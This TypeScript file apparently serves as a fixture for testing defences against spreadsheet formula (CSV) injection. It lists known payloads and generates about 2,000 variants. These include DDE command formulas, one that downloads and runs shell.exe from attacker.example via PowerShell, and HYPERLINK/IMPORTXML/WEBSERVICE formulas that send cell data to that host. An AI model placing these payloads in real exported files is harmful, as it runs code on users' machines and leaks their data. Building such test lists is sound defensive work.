/** What has been used to make a spreadsheet run something (OWASP "CSV injection", and reports of the field). */
const known: readonly string[] = [
  '=1+1',
  '=1+1";=1+2',
  '=1+1\'" ;,=1+2',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  "+cmd|'/C calc'!A0",
  "-cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'DDE ("cmd";"/C calc";"!A0")A0',
  '=DDE("cmd","/C calc","A0")',
  "=2+5+cmd|' /C calc'!A0",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=AAAA+BBBB-CCCC&"Hello"/12345&cmd|\'/c calc.exe\'!A',
  "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
  "= C    m D                    |        '/        c       c  al  c  .  e                  x       e  '   !   A",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  '=HYPERLINK("https://attacker.example?leak="&A1&A2,"Error: please click for more information")',
  '=IMPORTXML(CONCAT("https://attacker.example?v=",CONCATENATE(A2:E2)),"//a/a10")',
  '=IMPORTDATA("https://attacker.example")',
  '=WEBSERVICE(CONCATENATE("https://attacker.example/",A1))',
  "='file:///etc/passwd'#$passwd.A1",
  '=IMAGE("https://attacker.example/pixel.png")',
  "-2+3+cmd|' /C calc'!D2",
  '-12.50',
  '+12.50',
  '+919876543210',
  '-1,234.50',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  "%0A-3+3+cmd|' /C calc'!D2",
  '|calc',
  ';=1+1',
  ',=1+1',
  '";=1+1;"',
  '",=1+1,"',
  '"\n=1+1\n"',
  "'=1+1",
  "''=1+1",
  '＝１+１',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '−1+1',
];

const unseen = [
  '',
  ' ',
  '  ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00a0',
  '\u3000',
  '\u2003',
  '\u200b',
  '\ufeff',
  '\u00ad',
  '\u0000',
  '\u000b',
];
const quotes = ['"', '""', "'", '“', '«', '`', ' "', '" ', '\ufeff"', "\u200b '"];
const begunCells = ['a;', 'a\t', 'a\n', 'a\r', 'a; ', 'a;"', 'a"\n', 'a";'];
const before: readonly string[] = [...unseen, ...quotes, ...begunCells];
const signs: readonly string[] = [...'=+-@＝＋－＠−|%﹦﹢﹣﹫'];
const bodies: readonly string[] = [
  '1+1',
  "cmd|'/C calc'!A0",
  'HYPERLINK("https://attacker.example","x")',
  'SUM(A1:A9)',
  '12.50',
];

/** Two thousand texts, each of which a spreadsheet somewhere would run or follow. */
export const formulaPayloads: readonly string[] = [
  ...new Set([
    ...known,
    ...before.flatMap((first) => signs.flatMap((sign) => bodies.map((body) => `${first}${sign}${body}`))),
  ]),
].slice(0, 2000);
